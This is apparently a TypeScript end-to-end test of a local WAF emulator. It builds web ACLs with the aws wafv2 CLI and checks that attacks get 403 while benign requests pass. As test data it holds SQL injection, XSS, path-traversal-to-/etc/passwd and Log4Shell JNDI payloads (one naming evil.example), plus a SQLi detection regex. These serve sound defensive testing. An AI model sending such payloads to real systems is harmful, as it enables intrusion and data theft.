/**
 * The WAF end to end, as a new user would: `aws wafv2` creates an IP set, a regex pattern set and a
 * web ACL with byte-match, regex, IP and rate-based rules; it is associated with a site from the
 * config file; attacks get 403 and benign requests pass; the log record, the metric and
 * GetSampledRequests show it.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { awsCli } from './helpers/clients.js';
import { ROOT_KEY, removeDir, startServer, tempDataDir, type TestServer } from './helpers/server.js';

let upstream: http.Server;
let server: TestServer;
let site = '';
let blog = '';
let aclArn = '';
const dir = tempDataDir();
const SITE_ARN = 'arn:aws:bulwark:us-east-1:000000000000:site/shop';

async function wafv2(args: string[]): Promise<Record<string, unknown>> {
  const r = await awsCli(server.endpoint, ROOT_KEY, ['wafv2', ...args]);
  if (r.code !== 0) throw new Error(`aws wafv2 ${args[0]}: ${r.stderr}`);
  return r.stdout.trim() ? (JSON.parse(r.stdout) as Record<string, unknown>) : {};
}

/** A GET to a site (default shop) from a chosen loopback source address. */
function get(path: string, from = '127.0.0.1', base = site, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: u.hostname, port: Number(u.port), path, localAddress: from, agent: false, headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0', ...headers } }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

beforeAll(async () => {
  upstream = http.createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end(`hello from upstream ${req.url}`);
  });
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()));
  const port = (upstream.address() as AddressInfo).port;
  const configFile = join(dir, 'bulwark.yaml');
  writeFileSync(
    configFile,
    `sites:\n  - name: shop\n    listen: 127.0.0.1:0\n    upstream: http://127.0.0.1:${port}\n  - name: blog\n    listen: 127.0.0.1:0\n    upstream: http://127.0.0.1:${port}\n`,
  );
  server = await startServer({ dataDir: join(dir, 'data'), args: ['--config', configFile] });
  site = /Site shop on (http:\/\/[^\s]+)/.exec(server.output())?.[1] as string;
  blog = /Site blog on (http:\/\/[^\s]+)/.exec(server.output())?.[1] as string;
  expect(site).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
});

afterAll(async () => {
  await server?.stop();
  await new Promise<void>((r) => upstream.close(() => r()));
  removeDir(dir);
});

describe('a web ACL managed with aws wafv2 protects a site', () => {
  it('creates the sets and the web ACL and associates it', async () => {
    const ipset = (await wafv2(['create-ip-set', '--name', 'blocked', '--scope', 'REGIONAL', '--ip-address-version', 'IPV4', '--addresses', '127.0.0.2/32'])).Summary as { ARN: string };
    const regex = (await wafv2(['create-regex-pattern-set', '--name', 'sqli', '--scope', 'REGIONAL', '--regular-expression-list', 'RegexString=(?i)union\\s+select'])).Summary as { ARN: string };
    const vis = (name: string): Record<string, unknown> => ({ SampledRequestsEnabled: true, CloudWatchMetricsEnabled: true, MetricName: name });
    const rules = [
      {
        Name: 'block-attack-word',
        Priority: 1,
        Action: { Block: {} },
        VisibilityConfig: vis('attackWord'),
        Statement: {
          ByteMatchStatement: {
            SearchString: 'attack',
            FieldToMatch: { QueryString: {} },
            TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }, { Priority: 1, Type: 'LOWERCASE' }],
            PositionalConstraint: 'CONTAINS',
          },
        },
      },
      {
        Name: 'block-union-select',
        Priority: 2,
        Action: { Block: {} },
        VisibilityConfig: vis('unionSelect'),
        Statement: { RegexPatternSetReferenceStatement: { ARN: regex.ARN, FieldToMatch: { QueryString: {} }, TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }] } },
      },
      { Name: 'block-ips', Priority: 3, Action: { Block: {} }, VisibilityConfig: vis('blockedIps'), Statement: { IPSetReferenceStatement: { ARN: ipset.ARN } } },
      {
        Name: 'rate-limit',
        Priority: 4,
        Action: { Block: {} },
        VisibilityConfig: vis('rateLimit'),
        Statement: { RateBasedStatement: { Limit: 10, EvaluationWindowSec: 60, AggregateKeyType: 'IP' } },
      },
    ];
    const rulesFile = join(dir, 'rules.json');
    writeFileSync(rulesFile, JSON.stringify(rules));
    const capacity = await wafv2(['check-capacity', '--scope', 'REGIONAL', '--rules', `file://${rulesFile}`]);
    expect(capacity.Capacity).toBeGreaterThan(0);
    const acl = (
      await wafv2([
        'create-web-acl', '--name', 'shop-acl', '--scope', 'REGIONAL', '--default-action', 'Allow={}',
        '--visibility-config', 'SampledRequestsEnabled=true,CloudWatchMetricsEnabled=true,MetricName=shopAcl',
        '--rules', `file://${rulesFile}`,
      ])
    ).Summary as { ARN: string };
    aclArn = acl.ARN;
    expect(aclArn).toMatch(/^arn:aws:wafv2:us-east-1:000000000000:regional\/webacl\/shop-acl\/[0-9a-f-]{36}$/);
    await wafv2(['associate-web-acl', '--web-acl-arn', aclArn, '--resource-arn', SITE_ARN]);
    const forResource = await wafv2(['get-web-acl-for-resource', '--resource-arn', SITE_ARN]);
    expect((forResource.WebACL as { Name: string }).Name).toBe('shop-acl');
    await wafv2(['put-logging-configuration', '--logging-configuration', `ResourceArn=${aclArn},LogDestinationConfigs=arn:aws:s3:::aws-waf-logs-shop`]);
  });

  it('passes benign requests and blocks each attack with a 403', async () => {
    const ok = await get('/products?q=blue+shoes');
    expect(ok.status).toBe(200);
    expect(ok.body).toBe('hello from upstream /products?q=blue+shoes');
    expect((await get('/search?q=%41ttack%20now')).status).toBe(403);
    expect((await get('/search?id=1%20UNION%20%20SELECT%20password')).status).toBe(403);
    expect((await get('/', '127.0.0.2')).status).toBe(403);
    // Rate-based: more than 10 requests in the window from one address get blocked.
    const statuses: number[] = [];
    for (let i = 0; i < 14; i++) statuses.push((await get('/page', '127.0.0.3')).status);
    expect(statuses.slice(0, 10).every((s) => s === 200)).toBe(true);
    expect(statuses.slice(11).every((s) => s === 403)).toBe(true);
    // Another address is unaffected.
    expect((await get('/page', '127.0.0.4')).status).toBe(200);
  });

  it('shows the blocks in metrics, sampled requests and rate-based keys', async () => {
    const metrics = await (await fetch(server.endpoint + '/_bulwark/metrics')).text();
    expect(metrics).toMatch(/bulwark_waf_requests_total\{[^}]*attackWord[^}]*\} [1-9]/);
    const now = Math.floor(Date.now() / 1000);
    const sampled = await wafv2([
      'get-sampled-requests', '--web-acl-arn', aclArn, '--rule-metric-name', 'attackWord', '--scope', 'REGIONAL',
      '--time-window', `StartTime=${now - 600},EndTime=${now + 60}`, '--max-items', '100',
    ]);
    const reqs = sampled.SampledRequests as { Action: string; Request: { URI: string } }[];
    expect(reqs.some((r) => r.Action === 'BLOCK' && r.Request.URI === '/search')).toBe(true);
    const keys = await wafv2(['get-rate-based-statement-managed-keys', '--scope', 'REGIONAL', '--web-acl-name', 'shop-acl', '--web-acl-id', aclArn.split('/').pop() as string, '--rule-name', 'rate-limit']);
    expect((keys.ManagedKeysIPV4 as { Addresses: string[] }).Addresses).toContain('127.0.0.3/32');
  });

  it('AWS managed rule groups, as an exported AWS web ACL uses them, block the classic attacks', async () => {
    const list = await wafv2(['list-available-managed-rule-groups', '--scope', 'REGIONAL']);
    const names = (list.ManagedRuleGroups as { Name: string }[]).map((g) => g.Name);
    expect(names).toEqual(expect.arrayContaining(['AWSManagedRulesCommonRuleSet', 'AWSManagedRulesSQLiRuleSet', 'AWSManagedRulesKnownBadInputsRuleSet']));
    const vis = (n: string): Record<string, unknown> => ({ SampledRequestsEnabled: true, CloudWatchMetricsEnabled: true, MetricName: n });
    const managed = (name: string, priority: number, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
      Name: `AWS-${name}`,
      Priority: priority,
      OverrideAction: { None: {} },
      VisibilityConfig: vis(name),
      Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: name, ...extra } },
    });
    const rules = [
      managed('AWSManagedRulesCommonRuleSet', 0, {
        ExcludedRules: [{ Name: 'SizeRestrictions_BODY' }],
        RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } }],
      }),
      managed('AWSManagedRulesSQLiRuleSet', 1),
      managed('AWSManagedRulesKnownBadInputsRuleSet', 2),
    ];
    const rulesFile = join(dir, 'managed.json');
    writeFileSync(rulesFile, JSON.stringify(rules));
    const acl = (
      await wafv2([
        'create-web-acl', '--name', 'blog-acl', '--scope', 'REGIONAL', '--default-action', 'Allow={}',
        '--visibility-config', 'SampledRequestsEnabled=true,CloudWatchMetricsEnabled=true,MetricName=blogAcl', '--rules', `file://${rulesFile}`,
      ])
    ).Summary as { ARN: string };
    await wafv2(['associate-web-acl', '--web-acl-arn', acl.ARN, '--resource-arn', 'arn:aws:bulwark:us-east-1:000000000000:site/blog']);
    // A public host name: KnownBadInputs' Host_localhost_HEADER blocks Host: localhost / 127.0.0.1, as on AWS.
    const host = { host: 'blog.example.com' };
    expect((await get('/', '127.0.0.1', blog)).status).toBe(403);
    const benign = await get("/posts?q=it's+a+dog's+life%3B+isn't+it%3F", '127.0.0.1', blog, host);
    expect(benign.status).toBe(200);
    expect((await get("/posts?id=1'%20OR%20'1'%3D'1'--", '127.0.0.1', blog, host)).status).toBe(403);
    expect((await get('/posts?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', '127.0.0.1', blog, host)).status).toBe(403);
    expect((await get('/static/..%2F..%2F..%2Fetc%2Fpasswd', '127.0.0.1', blog, host)).status).toBe(403);
    expect((await get('/', '127.0.0.1', blog, { ...host, 'x-api-version': '${jndi:ldap://evil.example/a}' })).status).toBe(403);
    // NoUserAgent_HEADER is overridden to Count: a request without a User-Agent passes.
    expect((await get('/', '127.0.0.1', blog, { ...host, 'user-agent': '' })).status).toBe(200);
  });

  it('writes AWS-format log records into the aws-waf-logs bucket', async () => {
    expect(await server.stop()).toBe(0);
    const bucket = join(dir, 'data', 'buckets', 'aws-waf-logs-shop');
    const files = readdirSync(bucket, { recursive: true, withFileTypes: true }).filter((e) => e.isFile() && e.name.endsWith('.log.gz'));
    expect(files.length).toBeGreaterThan(0);
    const records = files.flatMap((f) =>
      gunzipSync(readFileSync(join(f.parentPath, f.name)))
        .toString()
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>),
    );
    const blocked = records.find((r) => r.terminatingRuleId === 'block-attack-word');
    expect(blocked).toMatchObject({ formatVersion: 1, webaclId: aclArn, action: 'BLOCK', terminatingRuleType: 'REGULAR', httpSourceId: SITE_ARN });
    expect((blocked!.httpRequest as { clientIp: string; uri: string; args: string }).uri).toBe('/search');
    expect(records.some((r) => r.action === 'ALLOW' && r.terminatingRuleId === 'Default_Action')).toBe(true);
  });
});

